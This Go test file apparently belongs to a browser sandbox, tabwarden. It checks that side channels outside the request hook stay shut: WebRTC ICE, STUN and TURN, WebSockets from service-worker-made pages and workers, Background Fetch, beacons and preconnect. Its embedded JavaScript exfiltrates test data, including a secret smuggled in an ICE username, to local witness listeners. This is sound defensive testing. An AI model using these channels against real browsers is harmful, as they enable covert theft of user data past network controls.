package corpus_test

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"testing"
	"time"
)

// The wall families (issue 20): connections the request hook never sees —
// WebRTC, documents and workers a service worker makes up, the browser
// process's own fetchers. Each case's witness is a counter of its own per
// side (a UDP or TCP listener, or P's requests and TCP accepts), and each
// runs on one of two tabwarden sides: the corpus world (uploads blocked) or
// the open world (the same origins, uploads allowed), so a channel is shown
// shut with and without blockBrowserUploads.

// counter is a case's witness on one side.
type counter interface {
	count() int
	list() []string
	changes() <-chan struct{}
	close()
}

// wallCase is one case of the wall families.
type wallCase struct {
	family, name string
	// open runs the tabwarden side on the open world (no upload block).
	open bool
	// serial: the witness counts untagged traffic at P (TCP accepts), so
	// the case runs alone.
	serial bool
	// click: as netCase.click.
	click string
	files map[string]cfile
	// witness builds the side's counter; it may set the side's extra
	// placeholders (a listener's port) before the page is served.
	witness func(w *world, c *wallCase, side string) counter
}

// wallCases are built once: their files are served by A like the net
// cases'.
var wallCases = buildWallCases()

func init() {
	for _, c := range wallCases {
		customFiles[c.name] = c.files
	}
}

func wallCustomCases() []customCase {
	var cs []customCase
	for i := range wallCases {
		c := &wallCases[i]
		cs = append(cs, customCase{family: c.family, name: c.name, wall: true, parallel: !c.serial, run: func(t *testing.T, w *world) (bool, bool) {
			return runWallCase(t, w, c)
		}})
	}
	return cs
}

// witnessUDP: a UDP socket on 127.0.0.1 counting datagrams (@UDP@ is its
// port).
func witnessUDP(w *world, c *wallCase, side string) counter {
	pc, err := (&net.ListenConfig{}).ListenPacket(context.Background(), "udp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	k := newKnock()
	w.setExtra(c.name, side, "@UDP@", fmt.Sprint(pc.LocalAddr().(*net.UDPAddr).Port))
	k.stop = func() { _ = pc.Close() }
	go func() {
		buf := make([]byte, 2048)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			k.add(fmt.Sprintf("UDP %d bytes from %s", n, from))
		}
	}()
	return k
}

// witnessTCP: a TCP listener on 127.0.0.1 counting accepted connections
// (@TCP@ is its port); it reads nothing and answers nothing.
func witnessTCP(w *world, c *wallCase, side string) counter {
	ln, err := (&net.ListenConfig{}).Listen(context.Background(), "tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	k := newKnock()
	w.setExtra(c.name, side, "@TCP@", fmt.Sprint(ln.Addr().(*net.TCPAddr).Port))
	var conns sync.WaitGroup
	k.stop = func() { _ = ln.Close(); conns.Wait() }
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			k.add("TCP connection from " + conn.RemoteAddr().String())
			conns.Add(1)
			go func() {
				defer conns.Done()
				_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
				buf := make([]byte, 512)
				for {
					if _, err := conn.Read(buf); err != nil {
						break
					}
				}
				_ = conn.Close()
			}()
		}
	}()
	return k
}

// witnessPTagged: the side's P requests of the case's tag (as witnessP).
func witnessPTagged(w *world, c *wallCase, side string) counter {
	s := w.P
	if side == sideBare {
		s = w.P0
	}
	tag := c.name + "-" + side
	return &hitCounter{s: s, match: func(h hit) bool { return h.Tag == tag }}
}

// witnessUploadA: a body or a WebSocket message to the case's witness path
// on A (as witnessUpload).
func witnessUploadA(w *world, c *wallCase, side string) counter {
	tag := c.name + "-" + side
	return &hitCounter{s: w.A, match: func(h hit) bool {
		return h.Tag == tag && strings.HasPrefix(h.Path, "/w/") && (h.BodyLen > 0 || h.WSMsg)
	}}
}

// witnessPConnect: any TCP connection P accepts from this side while the
// case runs (FedCM's fetches go to P's root, untagged: the cases run one
// at a time), or a request of the case's tag or for a well-known file.
func witnessPConnect(w *world, c *wallCase, side string) counter {
	s := w.P
	if side == sideBare {
		s = w.P0
	}
	tag := c.name + "-" + side
	since := time.Now()
	return &hitCounter{s: s, withAccepts: true, accepts: s.acceptCount(), match: func(h hit) bool {
		return h.Tag == tag || strings.HasPrefix(h.Path, "/.well-known/") && h.At.After(since)
	}}
}

// hitCounter counts a corpus server's hits that match and, withAccepts,
// the TCP connections it accepted beyond the first accepts.
type hitCounter struct {
	s           *server
	match       func(hit) bool
	withAccepts bool
	accepts     int
}

func (h *hitCounter) newAccepts() int {
	if !h.withAccepts {
		return 0
	}
	return max(h.s.acceptCount()-h.accepts, 0)
}

func (h *hitCounter) count() int { return h.s.count(h.match) + h.newAccepts() }

func (h *hitCounter) list() []string {
	out := h.s.list(h.match)
	if n := h.newAccepts(); n > 0 {
		out = append(out, fmt.Sprintf("%d TCP connections", n))
	}
	return out
}

func (h *hitCounter) changes() <-chan struct{} { return h.s.changes() }
func (h *hitCounter) close()                   {}

// knock is a listener's tally.
type knock struct {
	mu      sync.Mutex
	seen    []string
	changed chan struct{}
	stop    func()
}

func newKnock() *knock { return &knock{changed: make(chan struct{})} }

func (k *knock) add(s string) {
	k.mu.Lock()
	k.seen = append(k.seen, s)
	close(k.changed)
	k.changed = make(chan struct{})
	k.mu.Unlock()
}

func (k *knock) count() int {
	k.mu.Lock()
	defer k.mu.Unlock()
	return len(k.seen)
}

func (k *knock) list() []string {
	k.mu.Lock()
	defer k.mu.Unlock()
	if len(k.seen) > 5 {
		return append(append([]string{}, k.seen[:5]...), fmt.Sprintf("… %d in all", len(k.seen)))
	}
	return append([]string{}, k.seen...)
}

func (k *knock) changes() <-chan struct{} {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.changed
}

func (k *knock) close() { k.stop() }

// runWallCase shows the case live in bare Chromium and, at the same time,
// at zero through tabwarden (the side the case names), as runNetCase.
func runWallCase(t *testing.T, w *world, c *wallCase) (live, zero bool) {
	bare := c.witness(w, c, sideBare)
	defer bare.close()
	tw := c.witness(w, c, sideTW)
	defer tw.close()
	side := w.mainSide()
	if c.open {
		side = w.openSide(t)
	}

	var bareTook time.Duration
	finished := make(chan struct{})
	go func() {
		defer close(finished)
		bareTook = runWallBare(t, w, c, bare, &live)
	}()
	defer func() { <-finished }()

	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	r := w.newRunOn(t, ctx, c.name, side)
	defer r.close()
	tag := c.name + "-" + sideTW
	entry := w.A.URL + "/c/" + c.name + "/" + sideTW + "/index.html"
	start := time.Now()
	res := r.call("browser_open", map[string]any{"url": entry})
	if c.click != "" {
		tab, _ := res.Object["tabId"].(string)
		if tab == "" {
			t.Fatalf("browser_open failed: %s", res.JSON())
		}
		r.clickGo(tab, c.click)
	}
	doneHit := func(h hit) bool { return h.Tag == tag && strings.HasPrefix(h.Path, "/done/") }
	quiet := time.NewTimer(quietMax)
	defer quiet.Stop()
wait:
	for tw.count() == 0 && w.A.count(doneHit) == 0 {
		select {
		case <-tw.changes():
		case <-w.A.changes():
		case <-quiet.C:
			break wait
		case <-ctx.Done():
			t.Fatalf("tabwarden side: %v", ctx.Err())
		}
	}
	<-finished
	from := start
	if t1 := w.A.first(func(h hit) bool { return h.Path == "/done/"+tag+"/load" }); t1.After(from) {
		from = t1
	}
	if rest := max(2*bareTook+500*time.Millisecond, time.Second) - time.Since(from); rest > 0 {
		time.Sleep(rest)
	}
	got := tw.list()
	if tw.count() != 0 {
		t.Errorf("BYPASS: the witness counted through tabwarden (%s): %v", side.name, got)
	}
	t.Logf("bare: witness after %v (%v); tabwarden (%s): %d; open %s", bareTook.Round(time.Millisecond), bare.list(), side.name, tw.count(), nz(res.Code()))
	return live, tw.count() == 0
}

// runWallBare opens the case in bare Chromium and waits for its witness.
func runWallBare(t *testing.T, w *world, c *wallCase, k counter, live *bool) time.Duration {
	ctx, cancel := context.WithTimeout(context.Background(), bareTimeout)
	defer cancel()
	start := time.Now()
	p, err := w.bare.Open(ctx, w.A.URL+"/c/"+c.name+"/"+sideBare+"/index.html")
	if err != nil {
		t.Errorf("NOT LIVE: bare Chromium: open: %v", err)
		return bareTimeout
	}
	defer func() { _ = p.Close() }()
	if c.click != "" {
		clickCtx, stop := context.WithCancel(ctx)
		defer stop()
		go func() {
			for clickCtx.Err() == nil {
				_ = p.Click(clickCtx, 200, 200)
				select {
				case <-time.After(250 * time.Millisecond):
				case <-clickCtx.Done():
				}
			}
		}()
	}
	for k.count() == 0 {
		select {
		case <-k.changes():
		case <-ctx.Done():
			t.Errorf("NOT LIVE: bare Chromium: the witness counted nothing in %v: the case tests nothing", bareTimeout)
			return bareTimeout
		}
	}
	*live = true
	took := time.Since(start)
	if t0 := w.A.first(pageHit(c.name, sideBare)); !t0.IsZero() {
		took = time.Since(t0)
	}
	return took
}

// swRegister registers the case's sw.js for its own folder and calls then
// once it is active and controls the page.
const swRegister = `<script>function sw(then) {
  navigator.serviceWorker.register("@C@/sw.js", {scope: "@C@/"})
    .then(function () { return navigator.serviceWorker.ready; })
    .then(function (reg) {
      if (navigator.serviceWorker.controller) { return then(reg); }
      navigator.serviceWorker.addEventListener("controllerchange", function () { then(reg); });
    })
    .catch(function (e) { fetch("@DONE@/err?" + encodeURIComponent(e)); done(); });
}</script>`

// swMaking is a service worker that answers a request for name (in its
// scope) with a body of its own making, of type typ; it takes control of
// its pages at once.
func swMaking(name, typ, body string) cfile {
	return js(`self.addEventListener("install", function () { self.skipWaiting(); });
self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener("fetch", function (e) {
  if (new URL(e.request.url).pathname.endsWith("/` + name + `")) {
    e.respondWith(new Response(` + "`" + body + "`" + `, {headers: {"Content-Type": "` + typ + `"}}));
  }
});`)
}

// swPlain is a service worker that does nothing but exist (Background
// Fetch needs a registration).
var swPlain = js(`self.addEventListener("install", function () { self.skipWaiting(); });
self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });`)

// iceToUDP: a peer connection with a made-up answer whose one candidate is
// the witness's UDP port; ICE's connectivity checks carry the page's
// chosen ufrag (exfiltration by STUN username).
const iceToUDP = `<script>(async function () {
  var pc = new RTCPeerConnection();
  pc.createDataChannel("x");
  var offer = await pc.createOffer();
  await pc.setLocalDescription(offer);
  var sdp = offer.sdp.replace(/a=setup:actpass/g, "a=setup:active")
    .replace(/a=ice-ufrag:.*\r\n/g, "a=ice-ufrag:exfilSECRETdata\r\n")
    .replace(/a=ice-pwd:.*\r\n/g, "a=ice-pwd:abcdefghijklmnopqrstuvwxyz012345\r\n");
  await pc.setRemoteDescription({type: "answer", sdp: sdp});
  await pc.addIceCandidate({candidate: "candidate:1 1 udp 2130706431 127.0.0.1 @UDP@ typ host", sdpMid: "0", sdpMLineIndex: 0});
  window.keep = pc;
  setTimeout(done, 500);
})().catch(function (e) { fetch("@DONE@/err?" + encodeURIComponent(e)); done(); });</script>`

// turnOverTCP: a peer connection that may only use a relay, a TURN server
// over TCP at the witness's port.
const turnOverTCP = `<script>(async function () {
  var pc = new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:@TCP@?transport=tcp", username: "exfil", credential: "secret"}], iceTransportPolicy: "relay"});
  pc.createDataChannel("x");
  await pc.setLocalDescription(await pc.createOffer());
  window.keep = pc;
  setTimeout(done, 500);
})().catch(function (e) { fetch("@DONE@/err?" + encodeURIComponent(e)); done(); });</script>`

func buildWallCases() []wallCase {
	var cs []wallCase
	add := func(family, name string, open bool, witness func(*world, *wallCase, string) counter, files map[string]cfile) *wallCase {
		cs = append(cs, wallCase{family: family, name: name, open: open, witness: witness, files: files})
		return &cs[len(cs)-1]
	}
	idx := func(body string) map[string]cfile { return one("index.html", page(body)) }

	// WebRTC: UDP to a port nobody approved, and a TURN relay over TCP.
	for _, open := range []bool{false, true} {
		sfx := ""
		if open {
			sfx = "_uploads_allowed"
		}
		add("webrtc", "ice_udp"+sfx, open, witnessUDP, idx(iceToUDP))
		add("webrtc", "turn_tcp"+sfx, open, witnessTCP, idx(turnOverTCP))
	}

	// Documents and workers a service worker makes up: no response of
	// theirs passes the hook, so no connect-src reaches them.
	wsTo := func(url string) string {
		return `var s = new WebSocket("` + url + `"); s.onopen = function () { s.send("uploaded data"); };`
	}
	swDoc := func(url string) map[string]cfile {
		return map[string]cfile{
			"index.html": page(swRegister + `<script>sw(function () { var f = document.createElement("iframe"); f.src = "@C@/made.html"; f.onload = function () { setTimeout(done, 300); }; document.body.appendChild(f); });</script>`),
			"sw.js":      swMaking("made.html", "text/html", `<!doctype html><p>made up</p><script>`+wsTo(url)+`</script>`),
		}
	}
	swWorker := func(url string) map[string]cfile {
		return map[string]cfile{
			"index.html": page(swRegister + `<script>sw(function () { var w = new Worker("@C@/made.js"); w.onmessage = function () { setTimeout(done, 300); }; });</script>`),
			"sw.js":      swMaking("made.js", "text/javascript", wsTo(url)+` s.onerror = function () { postMessage(1); }; setTimeout(function () { postMessage(1); }, 300);`),
		}
	}
	// Run alone: one of these once stayed silent in bare Chromium for its
	// 20 s while the parallel cases ran beside it.
	add("sw-made", "sw_document_websocket_P", false, witnessPTagged, swDoc("@WSP@")).serial = true
	add("sw-made", "sw_document_websocket_P_uploads_allowed", true, witnessPTagged, swDoc("@WSP@")).serial = true
	add("sw-made", "sw_document_websocket_send_A", false, witnessUploadA, swDoc("@WSA@")).serial = true
	add("sw-made", "sw_worker_websocket_P", false, witnessPTagged, swWorker("@WSP@")).serial = true
	add("sw-made", "sw_worker_websocket_P_uploads_allowed", true, witnessPTagged, swWorker("@WSP@")).serial = true
	add("sw-made", "sw_worker_websocket_send_A", false, witnessUploadA, swWorker("@WSA@")).serial = true

	// The browser process's own fetchers.
	bgFetch := func(req string) map[string]cfile {
		return map[string]cfile{
			"index.html": page(swRegister + `<script>sw(function (reg) {
  return reg.backgroundFetch.fetch("bf-@T@", [` + req + `]).then(function () { setTimeout(done, 500); });
});</script>`),
			"sw.js": swPlain,
		}
	}
	// Chromium runs one Background Fetch at a time: these run alone.
	add("browser-fetch", "background_fetch_get_P", false, witnessPTagged, bgFetch(`"@WP@/bf.txt"`)).serial = true
	add("browser-fetch", "background_fetch_get_P_uploads_allowed", true, witnessPTagged, bgFetch(`"@WP@/bf.txt"`)).serial = true
	add("browser-fetch", "background_fetch_post_P", false, witnessPTagged, bgFetch(`new Request("@WP@/bf", {method: "POST", body: "uploaded data"})`)).serial = true
	add("browser-fetch", "background_fetch_post_A", false, witnessUploadA, bgFetch(`new Request("@WA@/bf", {method: "POST", body: "uploaded data"})`)).serial = true
	add("browser-fetch", "payment_method_manifest_P", false, witnessPTagged, idx(`<script>
var r = new PaymentRequest([{supportedMethods: "@WP@/pay"}], {total: {label: "t", amount: {currency: "USD", value: "1.00"}}});
r.canMakePayment().catch(function () {}).finally(function () { setTimeout(done, 500); });
</script>`))
	add("browser-fetch", "fedcm_well_known_P", false, witnessPConnect, idx(`<script>
navigator.credentials.get({identity: {providers: [{configURL: "@WP@/fedcm.json", clientId: "corpus"}]}})
  .catch(function () {}).finally(done);
setTimeout(done, 1500);
</script>`)).serial = true
	// More of WebRTC's transports: STUN and TURN over UDP, TURN over TLS.
	rtc := func(servers string) map[string]cfile {
		return idx(`<script>(async function () {
  var pc = new RTCPeerConnection({iceServers: [` + servers + `]});
  pc.createDataChannel("x");
  await pc.setLocalDescription(await pc.createOffer());
  window.keep = pc;
  setTimeout(done, 500);
})().catch(function (e) { fetch("@DONE@/err?" + encodeURIComponent(e)); done(); });</script>`)
	}
	add("webrtc", "stun_udp", false, witnessUDP, rtc(`{urls: "stun:127.0.0.1:@UDP@"}`))
	add("webrtc", "turn_udp", false, witnessUDP, rtc(`{urls: "turn:127.0.0.1:@UDP@?transport=udp", username: "exfil", credential: "secret"}`))
	add("webrtc", "turns_tcp", false, witnessTCP, rtc(`{urls: "turns:127.0.0.1:@TCP@?transport=tcp", username: "exfil", credential: "secret"}`))
	add("webtransport", "webtransport_udp", false, witnessUDP, idx(`<script>try { var wt = new WebTransport("https://127.0.0.1:@UDP@/wt"); wt.ready.catch(function () {}); wt.closed.catch(function () {}); } catch (e) {} setTimeout(done, 800);</script>`))
	add("browser-fetch", "manifest_link", false, witnessPTagged, one("index.html", cfile{Body: `<!doctype html><head><link rel=manifest href="@WP@/m.json">@HELPERS@</head><body><script>setTimeout(done, 800);</script></body>`}))
	add("browser-fetch", "fetch_later", false, witnessPTagged, idx(`<script>try { fetchLater("@WP@/fl", {activateAfter: 0}); } catch (e) {} setTimeout(function () { location.href = "@C@/next.html"; }, 300);</script>`))
	add("browser-fetch", "pagehide_beacon", false, witnessPTagged, map[string]cfile{
		"index.html": page(`<script>addEventListener("pagehide", function () { navigator.sendBeacon("@WP@/ph", "x"); }); setTimeout(function () { location.href = "@C@/next.html"; }, 300);</script>`),
		"next.html":  page(`<p>next`),
	})
	add("browser-fetch", "link_header_preconnect", false, witnessTCP, one("index.html", pageHdr(`<script>setTimeout(done, 500);</script>`, map[string]string{"Link": "<http://127.0.0.1:@TCP@>; rel=preconnect"})))
	add("browser-fetch", "compression_dictionary", false, witnessPTagged, idx(`<link rel=compression-dictionary href="@WP@/dict"><script>setTimeout(done, 1500);</script>`))
	add("browser-fetch", "download_link_click", false, witnessPTagged, idx(goLink("@WP@/d.bin", "download"))).click = "link"
	// A preconnect to a port of its own (a pooled connection to P would
	// hide it): a TCP connection and no request.
	add("browser-fetch", "preconnect", false, witnessTCP, idx(`<link rel=preconnect href="http://127.0.0.1:@TCP@"><script>setTimeout(done, 500);</script>`))
	return cs
}
